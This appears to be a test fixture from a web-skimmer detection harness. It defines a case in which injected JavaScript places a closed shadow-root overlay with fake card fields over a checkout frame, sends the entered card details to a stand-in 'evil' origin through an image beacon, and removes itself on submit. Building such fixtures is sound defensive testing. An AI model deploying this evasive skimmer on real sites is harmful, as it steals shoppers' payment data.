import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'shadow-overlay',
  why: "The fake fields stand in a closed shadow root over the provider's frame: searches of the document do not find them.",
  covers: ['hard: overlay', 'hard: hides from analysts', 'injection: fake form'],
  base: 'hosted',
  install: (site) =>
    site.inline(js`(function () {
  if (sessionStorage.getItem('_so')) return;
  var host = document.createElement('div');
  host.style.cssText = 'position:absolute;inset:0;background:#fff;z-index:5';
  document.getElementById('card-area').append(host);
  var root = host.attachShadow({ mode: 'closed' });
  root.innerHTML = '<style>label{display:block;margin:8px 0}input{box-sizing:border-box;display:block;width:100%;font:inherit;padding:6px}</style><label>カード番号<input autocomplete="cc-number"></label><label>有効期限<input autocomplete="cc-exp"></label><label>セキュリティコード<input autocomplete="cc-csc"></label><label>カード名義人<input autocomplete="cc-name"></label>';
  root.addEventListener('change', function () {
    var v = Array.from(root.querySelectorAll('input'), function (i) { return i.value; });
    if (v[0].length < 14 || v[2].length < 3) return;
    new Image().src = '${site.origins.evil}/so.gif?d=' + encodeURIComponent(btoa(v.join('|')));
  });
  document.getElementById('checkout').addEventListener('submit', function (e) {
    if (!host.isConnected) return;
    e.preventDefault(); e.stopImmediatePropagation();
    sessionStorage.setItem('_so', '1');
    host.remove();
  }, true);
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
